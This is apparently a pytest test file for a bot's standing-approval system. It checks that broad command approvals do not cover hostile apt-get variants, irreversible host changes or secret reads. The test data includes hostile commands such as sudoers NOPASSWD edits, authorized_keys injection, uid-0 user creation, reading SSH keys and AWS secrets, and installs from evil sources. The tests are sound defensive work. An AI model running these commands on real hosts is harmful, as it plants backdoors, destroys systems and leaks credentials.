"""Standing approvals cover what their words say: over real HTTP, hostile variants of an approved command get a card;
irreversible host changes and secret reads are not covered by a broad approval; patterns that could never match are
refused at every surface (admin API, slash command, CLI)."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.risk import classify
from bot.standing import covers_command, match, suggest_patterns
from bot.store import StandingApproval
from tests.harness import ADMIN, OWNER, Harness
from tests.test_cli import flybot, new_store
from tests.test_standing import asks, auto

NOW = datetime(2026, 1, 1, tzinfo=UTC)

HOSTILE_APT_INSTALLS = [
    "apt-get install -y bash-",
    "apt-get install -y libc6-",
    "apt-get install -y openssh-server-",
    "apt-get install -y --allow-remove-essential bash",
    "apt-get install -y --purge jq",
    "apt-get install -y --auto-remove jq",
    "apt-get install -y --autoremove jq",
    "apt-get install -y ./evil.deb",
    "apt-get install -y /tmp/evil.deb",
    "apt-get install -y --allow-unauthenticated jq",
    "apt-get install -y --force-yes jq",
    "apt-get install -y --allow-insecure-repositories jq",
    "apt-get install -y jq=1.0-old",
    "apt-get install -y --allow-downgrades jq",
    "apt-get install -y --allow-change-held-packages jq",
    "apt-get install -y --ignore-hold jq",
    "apt-get install -y -t unstable jq",
    "apt-get install -y jq/unstable",
    "apt-get install -y -o APT::Get::AllowUnauthenticated=true jq",
    "apt-get install -y jq > /etc/passwd",
    "apt-get install -y jq >> ~/install.log",
    "apt-get install -y jq > ../elsewhere.log",
    "sudo apt-get install -y bash-",
    "sudo apt-get install -y ./evil.deb",
    "apt-get install -y jq && apt-get install -y bash-",
    "apt-get remove -y jq",
]

IRREVERSIBLE_HOST_CHANGES = [
    "chmod -R 777 /",
    "chown -R nobody /etc",
    "mv /etc /tmp/etc",
    "cp /dev/null /etc/hosts",
    "ln -sf /dev/null /etc/hosts",
    "sed -i s/x/y/ /etc/shadow",
    "truncate -s 0 /var/log/auth.log",
    "passwd -d root",
    "useradd -o -u 0 evil",
    "echo 'evil ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
    "chmod u+s /usr/bin/vim",
    "iptables -F",
    "kill -9 1",
]


async def _admin_token(harness: Harness) -> str:
    from bot.bots import hash_token, new_token

    token = new_token()
    await harness.runtime.store.add_admin_token(f"adm_{token[-8:]}", hash_token(token), ADMIN, datetime.now(UTC))
    return token


async def asks_then_withdraw(harness: Harness, token: str, **body: object) -> dict[str, object]:
    """:func:`asks`, then withdraw the escalation (a Bot may hold at most 20 open ones)."""
    esc = await asks(harness, token, **body)
    async with harness.http.post(f"{harness.url}/v1/escalations/{esc['id']}/withdraw",
                                 headers={"Authorization": f"Bearer {token}"}) as response:
        assert response.status == 200, await response.text()
    return esc


async def _approve(harness: Harness, **body: object) -> dict[str, object]:
    admin = await _admin_token(harness)
    async with harness.http.post(f"{harness.url}/v1/standing-approvals", json={"scope": "bot", "bot": "ci-bot", **body},
                                 headers={"Authorization": f"Bearer {admin}"}) as response:
        data = await response.json()
        assert response.status == 201, data
        return data


async def test_a_host_apt_get_install_approval_covers_only_plain_installs(harness: Harness) -> None:
    token = await harness.add_bot()
    await _approve(harness, pattern="apt-get install", max_risk="system", host_ok=True)
    await auto(harness, token, command="apt-get install -y jq", contained=False)
    await auto(harness, token, command="sudo apt-get install -y jq curl", contained=False)
    for command in HOSTILE_APT_INSTALLS:
        await asks_then_withdraw(harness, token, command=command, contained=False)


async def test_a_bot_wide_star_up_to_system_on_the_host_does_not_cover_irreversible_changes(harness: Harness) -> None:
    token = await harness.add_bot()
    await _approve(harness, pattern="*", max_risk="system", host_ok=True)
    for command in ("systemctl restart nginx", "chmod +x run.sh", "echo done >> ~/notes.txt", "mkdir -p ~/.cache/x",
                    "apt-get install -y jq", "kill 4242"):
        await auto(harness, token, command=command, contained=False)
    for command in IRREVERSIBLE_HOST_CHANGES:
        esc = await asks_then_withdraw(harness, token, command=command, contained=False)
        assert esc["risk"] == "destructive", esc


async def test_secret_reads_are_not_covered_by_an_approval_for_workspace_writes(harness: Harness) -> None:
    token = await harness.add_bot()
    await _approve(harness, pattern="*")  # contained only, up to workspace_write
    await auto(harness, token, command="cat README.md", contained=True)
    for command in ("cat ~/.ssh/id_rsa", "printenv AWS_SECRET_ACCESS_KEY", "cat /proc/1/environ", "echo $GITHUB_TOKEN", "env"):
        esc = await asks(harness, token, command=command, contained=True)
        assert esc["risk"] == "network", esc


async def test_a_pattern_that_names_the_meaning_changing_words_covers_them(harness: Harness) -> None:
    token = await harness.add_bot()
    await _approve(harness, pattern="pip install", max_risk="network")
    await auto(harness, token, command="pip install requests", contained=True)
    await asks(harness, token, command="pip install --index-url https://pypi.example.com/simple requests", contained=True)
    await _approve(harness, pattern="pip install --index-url https://pypi.example.com/simple", max_risk="network")
    await auto(harness, token, command="pip install --index-url https://pypi.example.com/simple requests", contained=True)
    await asks(harness, token, command="pip install --index-url https://evil.example.com/simple requests", contained=True)


NEVER = ["sudo", "sudo apt-get install", "env", "eval", "xargs", "command", "exec", "nohup", "time", "bash", "sh",
         "python", "python3 -m pytest", "node", "npx eslint"]


async def test_patterns_that_could_never_match_are_refused_by_the_api_and_the_slash_command(harness: Harness) -> None:
    await harness.add_bot()
    admin = await _admin_token(harness)
    for pattern in NEVER:
        async with harness.http.post(f"{harness.url}/v1/standing-approvals",
                                     json={"scope": "bot", "bot": "ci-bot", "pattern": pattern},
                                     headers={"Authorization": f"Bearer {admin}"}) as response:
            data = await response.json(content_type=None)
        assert response.status == 422 and data["errors"][0]["field"] == "pattern", data
        assert "could never match" in data["errors"][0]["message"], data
        reply = await harness.slash(OWNER, f"standing add --bot ci-bot '{pattern}'")
        assert "could never match" in reply and not reply.startswith("Saved"), reply
    assert await harness.runtime.store.list_standing() == []
    reply = await harness.slash(OWNER, "standing add --bot ci-bot apt-get install")
    assert reply.startswith("Saved"), reply


def test_patterns_that_could_never_match_are_refused_by_the_cli(tmp_path: Path) -> None:
    new_store(tmp_path)
    flybot("bots", "add", "builder", "--owner", "U0OWNER01", cwd=tmp_path)
    for pattern in ("sudo", "env", "eval", "xargs", "command", "bash"):
        refused = flybot("standing", "add", "--bot", "builder", pattern, cwd=tmp_path)
        assert refused.returncode == 2 and "could never match" in refused.stderr, refused
    assert "builder" not in flybot("standing", "list", cwd=tmp_path).stdout


def _approval(pattern: str, max_risk: str = "system") -> StandingApproval:
    return StandingApproval(id="sa_t", scope="bot", subject="bot_x", pattern=pattern, max_risk=max_risk,
                            contained_only=False, created_by=OWNER, created_at=NOW)


@pytest.mark.parametrize(("pattern", "command", "covered"), [
    ("apt-get install", "apt-get install -y jq", True),
    ("apt-get install", "apt-get install -y jq=1.0-old", False),
    ("apt-get install -y jq=1.0-old", "apt-get install -y jq=1.0-old", True),
    ("apt-get install --allow-downgrades", "apt-get install --allow-downgrades jq", True),
    ("apt-get", "apt-get install --allow-downgrades jq", False),
    ("*", "apt-get install --allow-downgrades jq", True),
    ("*", "echo hi >> ~/notes.txt", True),
    ("echo", "echo hi >> ~/notes.txt", False),
    ("echo", "echo hi > notes.txt", True),
    ("git push", "git push origin main", True),
    ("git push", "git push --no-verify origin main", False),
    ("systemctl restart", "systemctl restart nginx", True),
    ("systemctl disable", "systemctl disable --now nginx", False),
    ("systemctl disable --now", "systemctl disable --now nginx", True),
    ("npm install", "npm install @types/node", True),
    ("npm install", "npm install user/repo", False),
    ("cargo install", "cargo install ripgrep", True),
    ("cargo install", "cargo install --git https://example.com/x x", False),
    ("go install", "go install golang.org/x/tools/gopls@latest", True),
    ("go install", "go install ./cmd/x", False),
    ("pip install", "pip install -e git+https://example.com/x", False),
    ("pip install", "pip install --break-system-packages x", False),
])  # fmt: skip
def test_a_pattern_covers_the_meaning_changing_words_only_when_it_spells_them_out(pattern: str, command: str, covered: bool) -> None:
    verdict = classify(command, contained=True, workspace=Path("/work/repo"))
    parts = list(verdict.commands)
    assert all(covers_command(_approval(pattern), part) for part in parts) is covered
    found = match([_approval(pattern)], risk=verdict.risk, contained=True, commands=parts, now=NOW)
    assert (found is not None) is covered


def test_the_suggested_pattern_spells_out_the_meaning_changing_words_so_it_covers_the_command_again() -> None:
    for command, expected in [
        ("pip install -i https://pypi.example.com/simple x", "pip install -i https://pypi.example.com/simple"),
        ("apt-get install -y jq=1.0-old", "apt-get install -y jq=1.0-old"),
        ("systemctl disable --now nginx", "systemctl disable --now"),
        ("apt-get install -y jq", "apt-get install"),
    ]:
        verdict = classify(command, contained=True, workspace=Path("/work/repo"))
        assert suggest_patterns(verdict.commands) == [expected]
        assert covers_command(_approval(expected), verdict.commands[0]), command
    assert suggest_patterns(classify("apt-get install -y jq >> ~/install.log", contained=True).commands) == []
    for command in ("env", "python3 --version", "sudo bash -c '[[ -f x ]]'"):
        assert suggest_patterns(classify(command, contained=True).commands) == [], command
